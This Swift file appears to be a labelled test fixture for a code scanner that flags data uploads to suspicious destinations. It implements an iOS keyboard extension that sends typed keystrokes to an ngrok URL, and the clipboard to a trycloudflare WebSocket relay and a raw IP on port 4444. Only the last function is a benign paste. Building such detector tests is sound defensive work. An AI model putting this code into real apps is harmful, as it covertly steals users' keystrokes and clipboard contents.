// A custom keyboard extension (with Full Access) that ships keystrokes, the host
// app's text and the pasteboard to a tunnel: the classic keyboard exfiltration case.
import UIKit

final class KeyboardViewController: UIInputViewController {
    private var buffer = ""
    private let collector = "https://4f2a-81-2-69-142.ngrok-free.app/k"

    func didTap(key: String) {
        textDocumentProxy.insertText(key)
        buffer += key
        if buffer.count > 64 {
            flush()
        }
    }

    private func flush() {
        var request = URLRequest(url: URL(string: collector)!)
        request.httpMethod = "POST"
        request.httpBody = Data(buffer.utf8)
        URLSession.shared.dataTask(with: request).resume() //~ data-upload/suspicious-destination
        buffer = ""
    }

    func grabClipboard() {
        let clip = UIPasteboard.general.string ?? ""
        let relay = URLSession.shared.webSocketTask(with: URL(string: "wss://relay.trycloudflare.com/ws")!)
        relay.resume()
        relay.send(.string(clip)) { _ in } //~ data-upload/clipboard-to-network data-upload/suspicious-destination
    }

    func beaconRawIP() {
        let host = NWConnection(host: "45.61.139.17", port: 4444, using: .tcp)
        host.start(queue: .global())
        host.send(content: Data((UIPasteboard.general.string ?? "").utf8), completion: .contentProcessed { _ in }) //~ data-upload/clipboard-to-network data-upload/suspicious-destination
    }

    // Silent: inserting the pasted text into the document is what a keyboard does.
    func pasteIntoDocument() {
        if let text = UIPasteboard.general.string {
            textDocumentProxy.insertText(text) // ok: a keyboard inserts the pasted text into the document
        }
    }
}
